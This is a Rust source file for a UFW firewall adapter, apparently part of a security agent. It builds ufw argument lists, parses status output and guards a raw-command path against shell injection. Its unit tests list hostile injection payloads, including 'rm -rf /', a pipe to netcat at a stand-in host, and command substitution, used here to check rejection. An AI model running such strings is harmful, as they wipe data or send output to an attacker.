// [apps/sentinel-agent/src/firewall/ufw.rs]
/*!
 * =================================================================
 * APARATO: UFW CONCRETE ADAPTER (V15.0 - EDGE ACTUATOR)
 * CLASIFICACIÓN: WORKER EXECUTION LAYER (ESTRATO L1-WORKER)
 * RESPONSABILIDAD: INVENTARIO Y EJECUCIÓN SOBRE UFW
 *
 * VISION HIPER-HOLÍSTICA 2026:
 * 1. SERIALIZED SUBPROCESS: A lo sumo un subproceso de cortafuegos en
 *    vuelo, con presupuesto de 30 segundos; el timeout se reporta como
 *    (false, "Command timed out").
 * 2. REORDER TWO-STEP: delete + insert; el fallo del paso 2 se reporta
 *    tal cual como resultado parcial (último error gana).
 * 3. RAW HATCH POLICY: El payload debe comenzar con el nombre del
 *    ejecutable y se rechazan metacaracteres de shell; la ejecución es
 *    por argv, jamás por shell.
 * 4. PURE PARSERS: 'status verbose' y 'status numbered' se parsean en
 *    funciones puras certificables sin subproceso.
 * =================================================================
 */

use super::{protected_service_label, FirewallAdapter, FirewallError, PROTECTED_SERVICES};
use crate::firewall::sockets;
use chrono::Utc;
use guardian_domain_models::firewall::{
    FirewallAction, FirewallInventory, UfwRuleEntry, UfwStatusSnapshot,
};
use std::path::PathBuf;
use std::time::Duration;
use tokio::process::Command;
use tracing::{debug, instrument, warn};

/// Presupuesto de pared por subproceso de cortafuegos.
const SUBPROCESS_TIMEOUT_SECONDS: u64 = 30;
/// Mensaje contractual de timeout.
const TIMEOUT_MESSAGE: &str = "Command timed out";
/// Metacaracteres vetados en la escotilla 'raw'.
const SHELL_METACHARACTERS: &[char] = &[';', '|', '&', '$', '`', '\n', '<', '>'];

pub struct UfwAdapter {
    executable_path: PathBuf,
}

impl UfwAdapter {
    pub fn new(executable_path: PathBuf) -> Self {
        Self { executable_path }
    }

    /// Localiza el ejecutable en las rutas canónicas del sistema.
    pub fn discover() -> Result<Self, FirewallError> {
        for candidate in ["/usr/sbin/ufw", "/sbin/ufw", "/usr/bin/ufw"] {
            let candidate_path = PathBuf::from(candidate);
            if candidate_path.exists() {
                return Ok(Self::new(candidate_path));
            }
        }
        Err(FirewallError::BinaryAbsent("ufw".to_string()))
    }

    pub fn executable_name(&self) -> &str {
        self.executable_path.file_name().and_then(|name| name.to_str()).unwrap_or("ufw")
    }

    /// Ejecuta el subproceso con presupuesto de 30s y captura fusionada.
    async fn run_ufw(&self, arguments: &[String]) -> (bool, String) {
        debug!("🧱 [UFW_EXEC]: {} {}", self.executable_path.display(), arguments.join(" "));

        let spawned = Command::new(&self.executable_path)
            .args(arguments)
            .kill_on_drop(true)
            .output();

        match tokio::time::timeout(Duration::from_secs(SUBPROCESS_TIMEOUT_SECONDS), spawned).await {
            Ok(Ok(output)) => {
                let merged_message = format!(
                    "{}{}",
                    String::from_utf8_lossy(&output.stdout),
                    String::from_utf8_lossy(&output.stderr)
                )
                .trim()
                .to_string();
                (output.status.success(), merged_message)
            }
            Ok(Err(spawn_fault)) => (false, format!("subprocess spawn failed: {spawn_fault}")),
            Err(_) => {
                warn!("⏱️ [UFW_TIMEOUT]: Directive exceeded {}s budget.", SUBPROCESS_TIMEOUT_SECONDS);
                (false, TIMEOUT_MESSAGE.to_string())
            }
        }
    }

    /**
     * Traduce la directiva a argv de ufw.
     *
     * # Errors:
     * 'DirectiveRejected' cuando la directiva viola su contrato (deny
     * sin puerto ni origen, raw con metacaracteres, etc.).
     */
    pub fn arguments_for(&self, directive: &FirewallAction) -> Result<Vec<String>, FirewallError> {
        let arguments = match directive {
            FirewallAction::Allow { port, protocol, from_ip } => match from_ip {
                Some(origin) => {
                    let mut argv = vec![
                        "allow".into(),
                        "from".into(),
                        origin.clone(),
                        "to".into(),
                        "any".into(),
                        "port".into(),
                        port.to_string(),
                    ];
                    if let Some(protocol) = protocol {
                        argv.push("proto".into());
                        argv.push(protocol.as_str().into());
                    }
                    argv
                }
                None => vec!["allow".into(), port_spec(*port, protocol.as_ref())],
            },
            FirewallAction::Deny { port, protocol, from_ip } => match (port, from_ip) {
                (None, None) => {
                    return Err(FirewallError::DirectiveRejected(
                        "deny requires at least one of {port, from_ip}".to_string(),
                    ));
                }
                (Some(port), Some(origin)) => {
                    let mut argv = vec![
                        "deny".into(),
                        "from".into(),
                        origin.clone(),
                        "to".into(),
                        "any".into(),
                        "port".into(),
                        port.to_string(),
                    ];
                    if let Some(protocol) = protocol {
                        argv.push("proto".into());
                        argv.push(protocol.as_str().into());
                    }
                    argv
                }
                (Some(port), None) => vec!["deny".into(), port_spec(*port, protocol.as_ref())],
                (None, Some(origin)) => vec!["deny".into(), "from".into(), origin.clone()],
            },
            FirewallAction::Reject { port, protocol } => {
                vec!["reject".into(), port_spec(*port, protocol.as_ref())]
            }
            FirewallAction::Limit { port, protocol } => {
                vec!["limit".into(), format!("{}/{}", port, protocol.as_str())]
            }
            FirewallAction::Delete { rule_number } => {
                vec!["--force".into(), "delete".into(), rule_number.to_string()]
            }
            FirewallAction::DeleteByRule { action, port, protocol, from_ip } => {
                let mut argv = vec!["delete".into(), action.clone()];
                if let Some(origin) = from_ip {
                    argv.push("from".into());
                    argv.push(origin.clone());
                    if let Some(port) = port {
                        argv.push("to".into());
                        argv.push("any".into());
                        argv.push("port".into());
                        argv.push(port.to_string());
                    }
                } else if let Some(port) = port {
                    argv.push(port_spec(*port, protocol.as_ref()));
                }
                argv
            }
            FirewallAction::Enable => vec!["--force".into(), "enable".into()],
            FirewallAction::Disable => vec!["disable".into()],
            FirewallAction::Reset => vec!["--force".into(), "reset".into()],
            FirewallAction::Reload => vec!["reload".into()],
            FirewallAction::Default { direction, policy } => {
                vec!["default".into(), policy.as_str().into(), direction.as_str().into()]
            }
            FirewallAction::Logging { level } => vec!["logging".into(), level.as_str().into()],
            FirewallAction::DenyFrom { ip, .. } => {
                vec!["deny".into(), "from".into(), ip.clone()]
            }
            FirewallAction::DeleteDenyFrom { ip, .. } => {
                vec!["delete".into(), "deny".into(), "from".into(), ip.clone()]
            }
            FirewallAction::Raw { command } => self.validate_raw_hatch(command)?,
            FirewallAction::Reorder { .. } => {
                return Err(FirewallError::DirectiveRejected(
                    "reorder is a two-step composite; dispatched by execute()".to_string(),
                ));
            }
        };

        Ok(arguments)
    }

    /**
     * Política de la escotilla 'raw': comienza con el nombre del
     * ejecutable, sin metacaracteres de shell, ejecutada por argv.
     */
    fn validate_raw_hatch(&self, command: &str) -> Result<Vec<String>, FirewallError> {
        let trimmed_command = command.trim();

        let mut tokens = trimmed_command.split_whitespace();
        let leading_token = tokens.next().unwrap_or_default();
        let leading_name = leading_token.rsplit('/').next().unwrap_or_default();

        if leading_name != self.executable_name() {
            return Err(FirewallError::DirectiveRejected(format!(
                "raw command must start with '{}'",
                self.executable_name()
            )));
        }

        if trimmed_command.contains(SHELL_METACHARACTERS) {
            return Err(FirewallError::DirectiveRejected(
                "raw command carries shell metacharacters".to_string(),
            ));
        }

        Ok(tokens.map(|token| token.to_string()).collect())
    }
}

impl FirewallAdapter for UfwAdapter {
    /**
     * Inventario completo: estado + reglas numeradas + sockets en
     * escucha con anotación de servicios protegidos.
     */
    #[instrument(skip(self))]
    async fn inventory(&self) -> Result<FirewallInventory, FirewallError> {
        if !self.executable_path.exists() {
            return Ok(FirewallInventory {
                status: not_installed_snapshot(),
                rules: vec![],
                listening_ports: sockets::collect_listening_ports().await,
                protected_ports: protected_port_catalog(),
                collected_at: Utc::now(),
            });
        }

        let (verbose_ok, verbose_output) =
            self.run_ufw(&["status".to_string(), "verbose".to_string()]).await;
        if !verbose_ok && !verbose_output.contains("inactive") {
            return Err(FirewallError::ParseFault(verbose_output));
        }

        let mut status = parse_status_verbose(&verbose_output);

        let (_, version_output) = self.run_ufw(&["version".to_string()]).await;
        status.version = version_output
            .lines()
            .next()
            .and_then(|line| line.strip_prefix("ufw "))
            .map(|tail| tail.trim().to_string());

        let (numbered_ok, numbered_output) =
            self.run_ufw(&["status".to_string(), "numbered".to_string()]).await;
        let rules = if numbered_ok { parse_status_numbered(&numbered_output) } else { vec![] };
        status.rules_count = rules.len() as u32;

        Ok(FirewallInventory {
            status,
            rules,
            listening_ports: sockets::collect_listening_ports().await,
            protected_ports: protected_port_catalog(),
            collected_at: Utc::now(),
        })
    }

    /**
     * Ejecuta la directiva con el contrato (éxito, mensaje).
     */
    #[instrument(skip(self, directive))]
    async fn execute(&self, directive: &FirewallAction) -> (bool, String) {
        if !self.executable_path.exists() {
            return (false, format!("firewall executable absent: {}", self.executable_path.display()));
        }

        // Compuesto reorder: dos pasos; el último error gana.
        if let FirewallAction::Reorder { delete_cmd, insert_cmd, from_index, to_index } = directive {
            debug!("🔀 [REORDER]: {} -> {} ({} / {}).", from_index, to_index, delete_cmd, insert_cmd);

            let delete_arguments: Vec<String> =
                delete_cmd.split_whitespace().map(|token| token.to_string()).collect();
            let (delete_ok, delete_message) = self.run_ufw(&delete_arguments).await;
            if !delete_ok {
                return (false, delete_message);
            }

            let insert_arguments: Vec<String> =
                insert_cmd.split_whitespace().map(|token| token.to_string()).collect();
            let (insert_ok, insert_message) = self.run_ufw(&insert_arguments).await;
            if !insert_ok {
                // Fallo parcial: el paso 1 ya mutó el borde; se reporta tal cual.
                return (false, insert_message);
            }
            return (true, format!("{delete_message}\n{insert_message}").trim().to_string());
        }

        match self.arguments_for(directive) {
            Ok(arguments) => self.run_ufw(&arguments).await,
            Err(rejection) => (false, rejection.to_string()),
        }
    }
}

/// Catálogo plano de puertos protegidos para el documento de inventario.
fn protected_port_catalog() -> Vec<u16> {
    PROTECTED_SERVICES.iter().map(|(port, _)| *port).collect()
}

fn port_spec(port: u16, protocol: Option<&guardian_domain_models::firewall::Protocol>) -> String {
    match protocol {
        Some(protocol) => format!("{}/{}", port, protocol.as_str()),
        None => port.to_string(),
    }
}

fn not_installed_snapshot() -> UfwStatusSnapshot {
    UfwStatusSnapshot {
        status: "not_installed".to_string(),
        default_incoming: None,
        default_outgoing: None,
        default_routed: None,
        logging_level: None,
        ipv6_enabled: false,
        version: None,
        rules_count: 0,
    }
}

/**
 * Parser puro de 'ufw status verbose'.
 */
pub fn parse_status_verbose(raw_output: &str) -> UfwStatusSnapshot {
    let mut snapshot = not_installed_snapshot();
    snapshot.status = "inactive".to_string();

    for line in raw_output.lines() {
        let trimmed_line = line.trim();

        if let Some(status_tail) = trimmed_line.strip_prefix("Status:") {
            snapshot.status = status_tail.trim().to_string();
        } else if let Some(logging_tail) = trimmed_line.strip_prefix("Logging:") {
            // 'on (low)' -> low; 'off' -> off
            let logging_field = logging_tail.trim();
            snapshot.logging_level = Some(
                logging_field
                    .split('(')
                    .nth(1)
                    .and_then(|inner| inner.split(')').next())
                    .unwrap_or(if logging_field.starts_with("off") { "off" } else { "on" })
                    .to_string(),
            );
        } else if let Some(default_tail) = trimmed_line.strip_prefix("Default:") {
            // 'deny (incoming), allow (outgoing), disabled (routed)'
            for policy_clause in default_tail.split(',') {
                let clause = policy_clause.trim();
                let policy = clause.split_whitespace().next().unwrap_or_default().to_string();
                if clause.contains("(incoming)") {
                    snapshot.default_incoming = Some(policy);
                } else if clause.contains("(outgoing)") {
                    snapshot.default_outgoing = Some(policy);
                } else if clause.contains("(routed)") {
                    snapshot.default_routed = Some(policy);
                }
            }
        }
    }

    // IPv6 se infiere de la presencia de reglas (v6) en el listado.
    snapshot.ipv6_enabled = raw_output.contains("(v6)");
    snapshot
}

/**
 * Parser puro de 'ufw status numbered'.
 *
 * Formato: '[ 1] 22/tcp  ALLOW IN  Anywhere'
 */
pub fn parse_status_numbered(raw_output: &str) -> Vec<UfwRuleEntry> {
    let mut mirror = Vec::new();

    for line in raw_output.lines() {
        let trimmed_line = line.trim();
        if !trimmed_line.starts_with('[') {
            continue;
        }

        let Some(bracket_close) = trimmed_line.find(']') else { continue };
        let Ok(position) = trimmed_line[1..bracket_close].trim().parse::<u32>() else { continue };

        let rule_body = trimmed_line[bracket_close + 1..].trim();
        let tokens: Vec<&str> = rule_body.split_whitespace().collect();

        // Acción y dirección: 'ALLOW IN' | 'DENY' | 'REJECT IN' | 'LIMIT IN'
        let action_index = tokens.iter().position(|token| {
            matches!(*token, "ALLOW" | "DENY" | "REJECT" | "LIMIT")
        });

        let (action, direction, destination, source) = match action_index {
            Some(index) => {
                let action = tokens[index].to_string();
                let has_direction =
                    tokens.get(index + 1).map(|t| *t == "IN" || *t == "OUT").unwrap_or(false);
                let direction = if has_direction { Some(tokens[index + 1].to_string()) } else { None };
                let destination = tokens[..index].join(" ");
                let source_start = index + if has_direction { 2 } else { 1 };
                let source = tokens.get(source_start..).map(|tail| tail.join(" "));
                (Some(action), direction, Some(destination), source)
            }
            None => (None, None, None, None),
        };

        mirror.push(UfwRuleEntry {
            position,
            raw_text: rule_body.to_string(),
            action,
            direction,
            from_source: source.filter(|s| !s.is_empty()),
            to_destination: destination.filter(|d| !d.is_empty()),
        });
    }

    mirror
}

#[cfg(test)]
mod tests {
    use super::*;
    use guardian_domain_models::firewall::{LoggingLevel, PolicyDirection, Protocol};

    fn adapter() -> UfwAdapter {
        UfwAdapter::new(PathBuf::from("/usr/sbin/ufw"))
    }

    #[test]
    fn status_verbose_parses_defaults_and_logging() {
        let raw_output = "Status: active\n\
             Logging: on (low)\n\
             Default: deny (incoming), allow (outgoing), disabled (routed)\n\
             New profiles: skip\n\n\
             To                         Action      From\n\
             --                         ------      ----\n\
             22/tcp                     ALLOW IN    Anywhere\n\
             22/tcp (v6)                ALLOW IN    Anywhere (v6)\n";

        let snapshot = parse_status_verbose(raw_output);
        assert_eq!(snapshot.status, "active");
        assert_eq!(snapshot.logging_level.as_deref(), Some("low"));
        assert_eq!(snapshot.default_incoming.as_deref(), Some("deny"));
        assert_eq!(snapshot.default_outgoing.as_deref(), Some("allow"));
        assert_eq!(snapshot.default_routed.as_deref(), Some("disabled"));
        assert!(snapshot.ipv6_enabled);
    }

    #[test]
    fn status_numbered_preserves_presentation_order() {
        let raw_output = "Status: active\n\n\
             \u{20}    To                         Action      From\n\
             \u{20}    --                         ------      ----\n\
             [ 1] 22/tcp                     ALLOW IN    Anywhere\n\
             [ 2] Anywhere                   DENY IN     203.0.113.5\n\
             [ 3] 443                        ALLOW IN    Anywhere\n";

        let mirror = parse_status_numbered(raw_output);
        assert_eq!(mirror.len(), 3);
        assert_eq!(mirror[0].position, 1);
        assert_eq!(mirror[1].action.as_deref(), Some("DENY"));
        assert_eq!(mirror[1].from_source.as_deref(), Some("203.0.113.5"));
        assert_eq!(mirror[2].to_destination.as_deref(), Some("443"));
    }

    #[test]
    fn deny_requires_port_or_origin() {
        let rejection = adapter()
            .arguments_for(&FirewallAction::Deny { port: None, protocol: None, from_ip: None });
        assert!(rejection.is_err());
    }

    #[test]
    fn deny_from_builds_canonical_argv() {
        let argv = adapter()
            .arguments_for(&FirewallAction::DenyFrom { ip: "203.0.113.5".into(), block_id: None })
            .expect("canonical argv");
        assert_eq!(argv, vec!["deny", "from", "203.0.113.5"]);
    }

    #[test]
    fn delete_deny_from_undoes_the_deny() {
        let argv = adapter()
            .arguments_for(&FirewallAction::DeleteDenyFrom {
                ip: "203.0.113.5".into(),
                block_id: None,
            })
            .expect("canonical argv");
        assert_eq!(argv, vec!["delete", "deny", "from", "203.0.113.5"]);
    }

    #[test]
    fn limit_defaults_to_tcp_spec() {
        let argv = adapter()
            .arguments_for(&FirewallAction::Limit { port: 2222, protocol: Protocol::Tcp })
            .expect("canonical argv");
        assert_eq!(argv, vec!["limit", "2222/tcp"]);
    }

    #[test]
    fn default_policy_argv_order_is_policy_then_direction() {
        let argv = adapter()
            .arguments_for(&FirewallAction::Default {
                direction: PolicyDirection::Incoming,
                policy: guardian_domain_models::firewall::DefaultPolicy::Deny,
            })
            .expect("canonical argv");
        assert_eq!(argv, vec!["default", "deny", "incoming"]);
    }

    #[test]
    fn logging_levels_pass_through() {
        let argv = adapter()
            .arguments_for(&FirewallAction::Logging { level: LoggingLevel::Full })
            .expect("canonical argv");
        assert_eq!(argv, vec!["logging", "full"]);
    }

    #[test]
    fn raw_hatch_requires_executable_prefix() {
        let rejection = adapter()
            .arguments_for(&FirewallAction::Raw { command: "iptables -F".into() });
        assert!(rejection.is_err());

        let accepted = adapter()
            .arguments_for(&FirewallAction::Raw { command: "ufw allow 8080/tcp".into() })
            .expect("prefixed command");
        assert_eq!(accepted, vec!["allow", "8080/tcp"]);
    }

    #[test]
    fn raw_hatch_rejects_shell_metacharacters() {
        let hostile_payloads = [
            "ufw allow 80; rm -rf /",
            "ufw allow 80 | nc evil 1234",
            "ufw allow $(whoami)",
            "ufw allow `id`",
        ];
        for payload in hostile_payloads {
            let rejection =
                adapter().arguments_for(&FirewallAction::Raw { command: payload.into() });
            assert!(rejection.is_err(), "hostile payload crossed: {payload}");
        }
    }

    #[test]
    fn protected_catalog_covers_ssh_and_dashboard() {
        assert!(protected_port_catalog().contains(&22));
        assert!(protected_port_catalog().contains(&8000));
        assert_eq!(protected_service_label(22), Some("ssh"));
    }
}
